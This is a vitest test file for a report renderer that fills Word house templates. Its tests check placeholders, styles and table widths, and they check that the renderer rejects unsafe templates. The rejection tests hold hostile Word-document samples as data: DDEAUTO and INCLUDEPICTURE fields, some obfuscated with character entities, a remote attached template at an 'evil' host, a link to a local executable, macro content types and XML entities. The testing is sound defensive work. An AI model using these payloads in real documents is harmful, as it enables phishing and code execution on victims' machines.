import { describe, expect, it } from 'vitest';
import { literal } from '../../../src/model/text.js';
import type { HouseTemplate } from '../../../src/render/docx/house-template.js';
import { renderReportDocx } from '../../../src/render/docx/report-docx.js';
import { paragraph } from '../../../src/report/blocks.js';
import { openDocx } from '../../support/docx.js';
import { findingsOf } from '../../support/findings.js';
import { houseTemplate, withPart } from '../../support/house-template.js';
import { sampleReport } from '../../support/sample-report.js';
import { translatorOf } from '../../support/translator.js';
import { findAll, findFirst } from '../../support/xml.js';

const french = translatorOf('fr');
const plain = await houseTemplate();

const fill = async (house: HouseTemplate, report = sampleReport) =>
  openDocx(await renderReportDocx(report, french, { house, profile: { name: 'Achats <durables> & Co' } }));

async function refusals(house: HouseTemplate) {
  const findings = await findingsOf(renderReportDocx(sampleReport, french, { house }));
  return findings.map(({ code, values, suggestion }) => ({ code, ...values, suggestion }));
}

describe('a report in a house template', () => {
  it('keeps header and footer, fills their fields, spaces in braces allowed', async () => {
    const filled = await fill(plain);
    expect(filled.part('word/header1.xml').text).toBe('SPF Exemple, Achats <durables> & Co');
    expect(filled.part('word/footer1.xml').text).toBe('21 novembre 2026');
  });

  it('puts all blocks at {{body}}, in the house’s own styles by their names', async () => {
    const { body } = await fill(plain);
    const style = (text: string) =>
      findFirst(findAll(body, 'w:p').find((p) => p.text === text)!, 'w:pStyle')?.attributes['w:val'];
    expect(style('Où en est la CoP')).toBe('Titre1');
    expect(style('CoP « Achats durables », 21 novembre 2026')).toBe('Sous-titre');
    expect(findAll(body, 'w:tbl')).toHaveLength(3);
    expect(body.text).not.toContain('{{');
  });

  it('adds our styles on its Normal and says the language of the report', async () => {
    const styles = (await fill(plain)).part('word/styles.xml');
    const cell = findAll(styles, 'w:style').find((each) => each.attributes['w:styleId'] === 'CopCell')!;
    expect(findFirst(cell, 'w:basedOn')?.attributes['w:val']).toBe('Normal');
    expect(findAll(styles, 'w:lang').map(({ attributes }) => attributes['w:val'])).toContain('fr-BE');
    const used = findAll((await fill(plain)).body, 'w:pStyle').map(({ attributes }) => attributes['w:val']);
    const known = findAll(styles, 'w:style').map(({ attributes }) => attributes['w:styleId']);
    expect(used.filter((id) => !known.includes(id))).toEqual([]);
  });

  it('lays tables out in the width of its page and takes its accent for charts', async () => {
    const filled = await fill(plain);
    const widths = findAll(findFirst(filled.body, 'w:tblGrid')!, 'w:gridCol').map(({ attributes }) =>
      Number(attributes['w:w']),
    );
    expect(widths.reduce((left, right) => left + right, 0)).toBe(11_906 - 2 * 1_701);
    expect(
      findAll(filled.part('word/charts/chart1.xml'), 'a:srgbClr').map((c) => c.attributes.val),
    ).toContain('6B2C91');
  });

  it('finds placeholders that Word cut into pieces', async () => {
    const { body } = await fill(await houseTemplate(['Pour {{cop|.na|me}}', '{{bo|dy}}']));
    expect(body.children[0]!.text).toBe('Pour Achats <durables> & Co');
    expect(body.text).toContain('Résultat de la boussole');
  });

  it('leaves a visible blank where a fact is not known', async () => {
    const { body } = await fill(await houseTemplate(['Sponsor : {{cop.sponsor}}', '{{body}}']));
    expect(body.children[0]!.text).toBe('Sponsor : ……………');
  });

  it('never takes people’s words for a placeholder', async () => {
    const typed = 'a {{body}} b {{cop.name}} c {{inconnu}}';
    const report = { ...sampleReport, title: literal(typed), blocks: [paragraph(literal(typed))] };
    const { body } = await fill(plain, report);
    expect(findAll(body, 'w:p').filter((p) => p.text === typed)).toHaveLength(2);
  });

  it('gives the same bytes twice', async () => {
    const [once, twice] = await Promise.all(
      [0, 1].map(() => renderReportDocx(sampleReport, french, { house: plain })),
    );
    expect(Buffer.compare(Buffer.from(once!), Buffer.from(twice!))).toBe(0);
  });

  it('turns a .dotx into a document', async () => {
    const template = withPart(plain, '[Content_Types].xml', (text) =>
      text.replace('document.main', 'template.main'),
    );
    const types = (await fill(template)).part('[Content_Types].xml');
    expect(
      findAll(types, 'Override')
        .map((each) => each.attributes.ContentType)
        .join(),
    ).not.toContain('template.main');
  });
});

describe('a template that cannot be used', () => {
  it('names an unknown placeholder and the nearest known', async () => {
    expect(await refusals(await houseTemplate(['{{cop.nom}}', '{{body}}']))).toMatchObject([
      { code: 'COP-HOUSE-004', placeholder: 'cop.nom', suggestion: '{{cop.name}}' },
    ]);
  });

  it.each([
    ['nowhere', ['Bonjour'], 0],
    ['twice', ['{{body}}', '{{ body }}'], 2],
  ])('says when {{body}} stands %s', async (_, paragraphs, count) => {
    expect(await refusals(await houseTemplate(paragraphs))).toMatchObject([{ code: 'COP-HOUSE-005', count }]);
  });

  it.each([
    ['a macro', 'word/vbaProject.bin', 'x', 'COP-HOUSE-002'],
    ['ActiveX', 'word/activeX/activeX1.xml', '<x/>', 'COP-HOUSE-002'],
    [
      'an attached template elsewhere',
      'word/_rels/settings.xml.rels',
      '<Relationships><Relationship Id="rId1" Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/></Relationships>',
      'COP-HOUSE-003',
    ],
    [
      'a linked picture',
      'word/_rels/header9.xml.rels',
      "<Relationships><Relationship TargetMode='External' Id='r' Target='//server/x.png' Type='http://x/image'/></Relationships>",
      'COP-HOUSE-003',
    ],
    [
      'a link that opens a program',
      'word/_rels/footer9.xml.rels',
      '<Relationships><Relationship Id="r" Type="http://x/hyperlink" Target="file:///c:/x.exe" TargetMode="External"/></Relationships>',
      'COP-HOUSE-003',
    ],
    [
      'a field that fetches',
      'word/header8.xml',
      '<w:hdr><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\x</w:instrText></w:r></w:p></w:hdr>',
      'COP-HOUSE-003',
    ],
    [
      'a field that fetches, its letters written as numbers',
      'word/header8.xml',
      "<w:hdr><w:fldChar w:fldCharType='begin'/><w:instrText>&#68;D&#x45;AUTO c:\\x</w:instrText></w:hdr>",
      'COP-HOUSE-003',
    ],
    [
      'a field that fetches, in pieces and under another prefix',
      'word/header8.xml',
      '<x:hdr><x:fldChar x:fldCharType = "begin"/><x:instrText><![CDATA[INCLUDE]]></x:instrText><x:instrText>TEXT<!-- --> "http://a"</x:instrText></x:hdr>',
      'COP-HOUSE-003',
    ],
    [
      'a simple field that fetches, in a part of another name',
      'word/parts/header8.foo',
      '<w:hdr><w:fldSimple w:instr=" INCLUDEPICTURE http://a/x.png"/></w:hdr>',
      'COP-HOUSE-003',
    ],
    [
      'a link outside whose mode is written in numbers, in a part in capitals',
      'word/_rels/settings.xml.RELS',
      '<r:Relationships><r:Relationship Id="r" Type="http://x/attached&#84;emplate" Target="http://evil" TargetMode="&#69;xternal"/></r:Relationships>',
      'COP-HOUSE-003',
    ],
    [
      'another document to be put in',
      'word/_rels/document9.xml.rels',
      '<Relationships><Relationship Id="r" Type="http://x/aFChunk" Target="a.html"/></Relationships>',
      'COP-HOUSE-002',
    ],
    [
      'a document with macros, its type written in numbers',
      '[Content_Types].xml',
      '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"/></Types>',
      'COP-HOUSE-002',
    ],
    ['entities', 'word/footer8.xml', '<!DOCTYPE x [<!ENTITY a "b">]><w:ftr/>', 'COP-HOUSE-006'],
  ])('refuses %s', async (_, part, content, code) => {
    expect(await refusals(withPart(plain, part, () => content))).toMatchObject([{ code }]);
  });

  it('allows links to web pages', async () => {
    const rels =
      '<Relationships><Relationship Id="r" Type="http://x/hyperlink" Target="https://bosa.belgium.be" TargetMode="External"/></Relationships>';
    const filled = await fill(withPart(plain, 'word/_rels/footer9.xml.rels', () => rels));
    expect(filled.part('word/footer1.xml').text).toBe('21 novembre 2026');
  });

  it('refuses what is no Word document, and XML that is cut off', async () => {
    expect(await refusals({ parts: new Map(), file: 'x.docx' })).toMatchObject([{ code: 'COP-HOUSE-001' }]);
    const broken = withPart(plain, 'word/header1.xml', (text) => text.slice(0, -20));
    expect(await refusals(broken)).toMatchObject([{ code: 'COP-HOUSE-006' }]);
  });
});
